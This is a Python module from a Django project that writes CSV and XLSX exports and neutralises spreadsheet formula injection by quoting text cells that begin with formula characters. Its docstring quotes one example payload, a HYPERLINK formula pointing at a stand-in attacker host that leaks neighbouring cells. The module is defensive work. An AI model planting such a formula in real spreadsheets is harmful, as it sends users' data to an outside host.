"""The one writer of spreadsheet files (CSV and XLSX) the exports use (issue 14, item 4).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil.example/?x="&A2)``
leaks the neighbouring cells when clicked). OWASP's rule "CSV injection" is applied to every text
cell here: such a cell gets a single quote in front, so it shows as text. The full-width forms
of the same signs (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some East Asian Excel builds also
evaluate, are treated the same way.

Decision: cells are typed. ``int``, ``Decimal`` and ``float`` values are written as numbers (a
negative amount stays a number: ``-1500,00`` in CSV, a numeric cell in XLSX) and are never
quoted, because the text of a number we format ourselves cannot hold a formula; only strings
(and lazy translation strings) are neutralised. So a caller passes amounts as ``Decimal``, not
as text it has formatted, and a column that must stay numeric stays numeric. Dates are written
as dates (``dd.mm.yyyy``/ISO in CSV by the writer's ``date_format``, date cells in XLSX).

The CSV dialect is the project's: UTF-8 with a BOM (spreadsheet programs in Russian locales then
open it right), CRLF line ends; the delimiter and the decimal separator are the writer's options
(the reports use ``;`` and a decimal comma, the referral export ``,`` and a point). XLSX is
written with openpyxl in write-only mode. Written here: no maintained library applies the rule
to typed cells of both formats.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from partnerhub.core.clock import PROGRAM_TZ

#: First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width forms).
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
BOM = "\ufeff"
CRLF = "\r\n"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
#: Excel's limit on a sheet title.
XLSX_TITLE_MAX = 31

Number = int | Decimal | float


def neutralise(text: str) -> str:
    """The text with a single quote in front when a spreadsheet would read it as a formula."""
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


def _is_number(value: object) -> bool:
    return isinstance(value, int | Decimal | float) and not isinstance(value, bool)


def _naive_local(moment: dt.datetime) -> dt.datetime:
    """Spreadsheets have no time zones: an aware moment is shown in Moscow time."""
    if moment.tzinfo is None:
        return moment
    return moment.astimezone(PROGRAM_TZ).replace(tzinfo=None)


class CsvWriter:
    """Rows to CSV text, one cell type at a time (see the module docstring).

    ``row()`` returns one line, for streaming responses; ``lines()`` a whole table with the BOM
    first; ``csv_bytes()`` below the whole file as bytes.
    """

    def __init__(
        self,
        *,
        delimiter: str = ";",
        decimal_comma: bool = True,
        date_format: str = "%d.%m.%Y",
        datetime_format: str = "%d.%m.%Y %H:%M",
    ) -> None:
        self.decimal_comma = decimal_comma
        self.date_format = date_format
        self.datetime_format = datetime_format
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, delimiter=delimiter, lineterminator=CRLF)

    def cell(self, value: object) -> str:
        """The text of one cell."""
        if value is None:
            return ""
        if isinstance(value, bool):
            return "1" if value else "0"
        if _is_number(value):
            text = f"{value:f}" if isinstance(value, Decimal) else str(value)
            return text.replace(".", ",") if self.decimal_comma else text
        if isinstance(value, dt.datetime):
            return _naive_local(value).strftime(self.datetime_format)
        if isinstance(value, dt.date):
            return value.strftime(self.date_format)
        return neutralise(str(value))

    def row(self, cells: Iterable[object]) -> str:
        """One CSV line (with its CRLF)."""
        self._writer.writerow([self.cell(c) for c in cells])
        line = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return line

    def lines(self, rows: Iterable[Iterable[object]]) -> Iterator[str]:
        """The BOM, then a line per row, lazily."""
        yield BOM
        for cells in rows:
            yield self.row(cells)


def csv_bytes(rows: Iterable[Iterable[object]], **options: Any) -> bytes:
    """A whole CSV file as UTF-8 bytes with a BOM; ``options`` go to ``CsvWriter``."""
    return "".join(CsvWriter(**options).lines(rows)).encode("utf-8")


def _xlsx_cell(sheet: Any, value: object) -> Any:
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        cell = WriteOnlyCell(sheet)
        # set the type after the value: openpyxl would read a leading "=" as a formula
        cell.value = neutralise(value)
        cell.data_type = "s"
        return cell
    if isinstance(value, dt.datetime):
        cell = WriteOnlyCell(sheet, value=_naive_local(value))
        cell.number_format = "DD.MM.YYYY HH:MM"
        return cell
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "DD.MM.YYYY"
        return cell
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        exponent = value.as_tuple().exponent
        if isinstance(exponent, int) and exponent == -2:
            cell.number_format = "#,##0.00"
        return cell
    if value is None or isinstance(value, bool) or _is_number(value):
        return WriteOnlyCell(sheet, value=value)
    return _xlsx_cell(sheet, str(value))


def xlsx_bytes(rows: Iterable[Iterable[object]], *, title: str = "Лист1") -> bytes:
    """A one-sheet XLSX workbook of ``rows`` (typed cells, text neutralised)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:XLSX_TITLE_MAX])
    for cells in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in cells])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
